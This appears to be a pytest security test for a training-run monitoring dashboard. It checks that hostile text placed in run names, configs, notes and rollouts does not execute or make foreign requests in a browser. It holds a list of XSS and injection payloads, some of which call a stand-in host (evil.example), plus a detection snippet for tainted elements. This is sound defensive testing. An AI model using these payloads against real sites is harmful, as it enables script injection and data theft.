"""Text that a model, a run, a task or a person wrote, on every page of a real server in a real Chromium: nothing of it
runs, and nothing foreign is asked for (the fixture `page` fails on any console error, page error or foreign request).
"""

import json
from urllib.parse import quote

import pytest

from regimescope.monitor import Bounds, Rollout, RolloutOptions, SignBounds, WeightRule, query
from regimescope.monitor.control import ControlFolder
from regimescope.monitor.service import Monitor
from regimescope.monitor.store import Store

PAYLOADS = (
    "<script>window.xss=1;fetch('http://evil.example/a')</script>",
    '<img src=http://evil.example/b onerror="window.xss=1">',
    '"><svg onload=window.xss=1>',
    "![x](http://evil.example/c.png)",
    "[x](javascript:window.xss=1) <a href='javascript:window.xss=1'>y</a>",
    "<iframe srcdoc='<script>parent.window.xss=1</script>'></iframe>",
    "$\\href{javascript:window.xss=1}{x}$ :red[x] :material/home:",
    "</style><style>@import 'http://evil.example/d'</style>",
    "{{constructor.constructor('window.xss=1')()}} ${window.xss=1}",
    "<b>b</b>\u202egnp.exe\x07",
)
FOLDER = "a <img src=x onerror=window.xss=1> ![x](y) b"
"A run's name is a folder's: no slash."
TIGHT = Bounds(pos=SignBounds(w_min=0.8, w_max=11.0), neg=SignBounds(w_min=1.0, w_max=101.0))
PAGES = ("", "regimes", "alerts", "rollouts", "control", "forensics", "settings")
TAINTED = """() => window.xss !== undefined
    || [...document.querySelectorAll('[src], [href]')].some((e) => /evil|javascript:/.test(e.src + e.href))
    || document.querySelectorAll('iframe[srcdoc], svg[onload], img[onerror]').length > 0"""


@pytest.fixture
def hostile(tmp_path, record, write_step):
    """A run that collapses, with a payload wherever it takes text; and what a person said about it."""
    every = " ".join(PAYLOADS)
    root = tmp_path / "runs"
    recorder = record(
        root / FOLDER,
        name=every,
        objective=PAYLOADS[0],
        framework=PAYLOADS[1],
        rule=WeightRule.capped(TIGHT),
        config={PAYLOADS[2]: every, "model": {"name": PAYLOADS[3]}},
        rollouts=RolloutOptions(every=1, limit=4),
    )
    ControlFolder(root / FOLDER, launch=recorder.launch, can=())
    for step in range(44):
        sick = max(0.0, min(1.0, (step - 30) / 8))
        values = {
            "accuracy": ((0.6 + 0.01 * (step % 3)) * (1 - 0.95 * sick), 256),
            "response_length_mean": ((34 + step % 3) * (1 - sick) + 3 * sick, 256),
        }
        for env in PAYLOADS[:2]:
            recorder.scalars(step, values, slice=("env", env))
        if step == 2:
            recorder.event("note", {"text": every}, step=step)
        recorder.rollouts(step, [response(i, env) for i, env in enumerate(PAYLOADS)])
        write_step(recorder, step, bounds=TIGHT, **values)
    with_words(root, every)
    return root


def response(i, text):
    tokens = [text[k : k + 4] for k in range(0, len(text), 4)]
    numbers = [0.1] * len(tokens)
    return Rollout(
        sample_id=i, length=len(tokens), group_id=0, env=text, prompt=text, response=text, tokens=tokens,
        token_ids=list(range(len(tokens))), logp_old=numbers, logp_new=numbers, reward=float(i), advantage=1.0,
        finish_reason="eos",
    )  # fmt: skip


def with_words(root, text):
    """A note, a reason and a command, as a person would leave them."""
    monitor = Monitor(root, store=Store.in_memory(root), actor=PAYLOADS[0])
    alerts = []
    while monitor.tick() or not alerts:  # the first walk over the root may come late
        with monitor.store.cursor() as con:
            alerts = query.alerts(con, 1)
    assert {alert.slice for alert in alerts} & {f"env={env}" for env in PAYLOADS[:2]}, alerts
    for alert in alerts:
        monitor.requests.mark(1, kind="acknowledge", alert_id=alert.alert_id, by=PAYLOADS[1], text=text)
        monitor.requests.mark(1, kind="note", alert_id=alert.alert_id, by=PAYLOADS[1], text=text)
    monitor.requests.submit(1, kind="pause", args={}, expect=None, by=PAYLOADS[2], why=text)
    monitor.stop()


def test_hostile_text_runs_nowhere_and_asks_for_nothing(serve, hostile, page):
    server = serve(hostile)
    for name in PAGES:
        page.goto(f"{server.address}/{name}?run={quote(FOLDER)}&slice=1")
        page.get_by_text("COLLAPSING").first.wait_for(timeout=60_000)
        page.locator("[data-test-script-state=notRunning]").wait_for()
        for opener in page.get_by_test_id("stExpander").locator("summary").all():
            opener.click()
        page.wait_for_timeout(300)
        assert not page.evaluate(TAINTED), name
        assert page.complaints.none(), (name, page.complaints)
    shown = page.evaluate("() => document.title + document.body.innerText")
    assert "onerror=window.xss" in shown, "the name of the run stands there as text"
    assert json.loads(server.request("/api/health")[2])["bad_lines"] == 0
